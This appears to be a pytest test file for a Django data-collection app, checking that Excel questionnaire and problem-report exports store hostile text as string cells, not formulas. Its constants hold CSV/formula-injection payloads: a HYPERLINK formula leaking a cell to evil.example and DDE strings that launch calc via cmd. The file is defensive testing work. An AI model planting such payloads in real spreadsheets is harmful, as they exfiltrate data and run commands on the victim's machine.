"""The questionnaire and its problem report write names and comments as text, never as
formulas, however they begin."""

import polars as pl
import pytest

from miara.catalogue.models import Variable
from miara.collection.excel import problems_workbook, template_build
from miara.collection.models import Submission
from miara.collection.services import OPERATOR, values_save
from miara.fileio import Problem
from miara.fileio.tests.test_formulas import assert_text_cells
from miara.testing.cycles import cycle_2024
from miara.units.models import Unit

pytestmark = pytest.mark.django_db

COMMENT = '=HYPERLINK("http://evil.example/?"&E2,"click")'
VARIABLE = "@SUM(1+1)*cmd|' /C calc'!A0"
UNIT = "-2+3+cmd|' /C calc'!A0"
INSTRUCTIONS = "=1+1"


def test_the_questionnaire_writes_hostile_text_as_string_cells(alice):
    Unit.objects.filter(code="A1").update(name=UNIT)
    Variable.objects.filter(code="WASTE_T").update(name={"en": VARIABLE})
    cycle = cycle_2024(alice, ["WASTE_T", "RECYCLED_T"], ["A1"])
    # The coordinator's own paragraphs are written one per cell.
    type(cycle).objects.filter(pk=cycle.pk).update(instructions={"en": INSTRUCTIONS})
    frame = pl.DataFrame(
        {
            "unit": ["A1"],
            "variable": ["WASTE_T"],
            "period": ["2024"],
            "value": ["1000"],
            "comment": [COMMENT],
            "__line": [1],
        }
    )
    values_save(acting_user=OPERATOR, rows=frame, channel="form", source="test")
    submission = Submission.objects.get(cycle=cycle, unit__code="A1")
    content = template_build(submission=submission, language="en")
    assert_text_cells(content, [COMMENT, VARIABLE, INSTRUCTIONS, f"{UNIT} (A1)"])


def test_the_problem_report_writes_hostile_text_as_string_cells():
    content = problems_workbook([Problem("=1+1", line=2, column="@x", cell="E2")], "en")
    assert_text_cells(content, ["=1+1", "@x"])
